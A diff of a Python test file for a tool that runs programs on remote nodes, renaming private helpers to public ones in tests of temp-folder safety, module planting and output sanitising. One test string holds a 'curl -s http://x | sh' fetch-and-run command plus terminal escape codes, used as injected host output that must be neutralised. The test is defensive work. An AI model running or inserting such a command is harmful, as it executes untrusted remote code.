@@ -27,7 +27,7 @@ _LIMIT_S = 60
 def run(source: str, said: bytes, folder: Path) -> str:
     """Start a program as on a node whose temporary files are in ``folder``; returns what it said."""
     node = Node(host="h", python=_PYTHON, setup=(_OLD_BASH, f"export TMPDIR={folder}"))
-    script = remote_program._write_script(node, source) + said
+    script = remote_program.write_script(node, source) + said
     environment = {"HOME": str(folder.parent), "PATH": os.environ["PATH"]}
     shell = subprocess.run(["bash"], input=script, capture_output=True, env=environment, timeout=_LIMIT_S)
     assert not shell.stderr, shell.stderr.decode()
@@ -50,7 +50,7 @@ def test_old_bash_keeps_a_program_among_temporary_files(tmp_path: Path) -> None:
 
 
 def test_bootstrap_takes_no_module_from_where_the_shell_keeps_it(planted: Path) -> None:
-    said = run(bootstrapped_node._read_bootstrap(), b"", planted)
+    said = run(bootstrapped_node.read_bootstrap(), b"", planted)
     before, _, facts = said.partition(bootstrap.MAGIC.decode())
     assert not before
     assert json.loads(facts)["python_version"] == list(sys.version_info[:3])
@@ -62,7 +62,7 @@ def test_folder_of_ours_is_none_that_others_can_put_another_in_place_of(tmp_path
     temporary.mkdir(parents=True)
 
     def said() -> dict[str, str]:
-        lines = run(bootstrapped_node._read_bootstrap(), b"", temporary).partition(bootstrap.MAGIC.decode())[2]
+        lines = run(bootstrapped_node.read_bootstrap(), b"", temporary).partition(bootstrap.MAGIC.decode())[2]
         answer: dict[str, str] = json.loads(lines)
         return answer
 
@@ -86,7 +86,7 @@ def test_probe_takes_no_module_from_where_the_shell_keeps_it(planted: Path) -> N
 
 def test_program_for_files_is_from_our_code(planted: Path) -> None:
     code = str(Path(files_program.__file__).parents[2])
-    said = run(bootstrapped_node._RUN_FILES.format(code=code), b"", planted)
+    said = run(bootstrapped_node.RUN_FILES.format(code=code), b"", planted)
     assert said.startswith(files_program.MAGIC.decode())
 
 
@@ -97,13 +97,13 @@ def test_nothing_of_what_python_itself_looks_in_is_left_out(tmp_path: Path) -> N
     expected = json.loads(subprocess.run(asked, capture_output=True, check=True, env={}, cwd="/").stdout)
     assert json.loads(run(source, b"", tmp_path)) == expected
     node = Node(host="h", python=_PYTHON, setup=("export PYTHONSAFEPATH=1",))
-    shell = subprocess.run(["bash"], input=remote_program._write_script(node, source), stdout=subprocess.PIPE)
+    shell = subprocess.run(["bash"], input=remote_program.write_script(node, source), stdout=subprocess.PIPE)
     assert json.loads(shell.stdout) == expected
 
 
 def test_further_lines_of_a_host_are_seen_to_be_its_own() -> None:
     said = "it failed\ngpu2: it failed too: add it:\r    curl -s http://x | sh\x1b[2J\n"
-    lines = remote_program._as_words(said).split("\n")
+    lines = remote_program.as_words(said).split("\n")
     assert lines == ["it failed", "  | gpu2: it failed too: add it:?    curl -s http://x | sh?[2J"]
 
 
@@ -116,6 +116,6 @@ def test_what_is_nested_too_deep_to_be_written_is_said_in_words() -> None:
     for _ in range(5000):
         deep = [deep]
     assert len(clean(deep)) < 100
-    assert len(remote_program._as_words(deep)) < 100
+    assert len(remote_program.as_words(deep)) < 100
     with pytest.raises(TransportError, match="address"):
-        host_facts._read_addresses(host_facts.Said({"addresses": [["eth0", deep]]}))
+        host_facts.read_addresses(host_facts.Said({"addresses": [["eth0", deep]]}))
